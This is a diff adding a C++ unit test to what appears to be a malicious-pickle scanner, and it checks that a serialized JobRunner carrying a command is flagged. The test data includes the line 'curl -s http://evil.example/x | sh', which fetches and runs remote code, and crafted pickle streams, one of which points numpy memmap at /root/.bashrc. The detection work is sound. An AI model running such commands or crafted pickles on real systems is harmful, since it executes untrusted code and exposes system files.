@@ -325,6 +325,15 @@ TEST(JudgePickle, KnowsHowDillWritesWhatPythonHasTypesFor) {
   }
 }
 
+TEST(JudgePickle, SeesAttackersCommandsInTheStateOfWhatRunsThem) {
+  EXPECT_TRUE(found(look("cvendor.tools\nJobRunner\n)\x81}(Vcmd\nVcurl -s http://evil.example/x | sh\nub."),
+                    "pickle-dangerous-call"));
+  EXPECT_EQ(rules_of(look("cvendor.tools\nJobRunner\n)\x81}(Vurl\nVhttps://example.org/data.csv\nub.")),
+            (Rules{"pickle-own-class"}));
+  EXPECT_EQ(rules_of(look("cvendor.tools\nNotes\n)\x81}(Vtext\nVcurl -s http://evil.example/x | sh\nub.")),
+            (Rules{"pickle-own-class"}));
+}
+
 TEST(JudgePickle, KeepsClassesThatOnlyOtherCallsMayMake) {
   EXPECT_EQ(look("cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nmemmap\n(I0\ntVb\ntR.").verdict, FileVerdict::clean);
   for (const std::string_view stream : {"cnumpy\nmemmap\n(V/root/.bashrc\ntR.", "cnumpy\nmemmap\n(Va\nt\x81.",
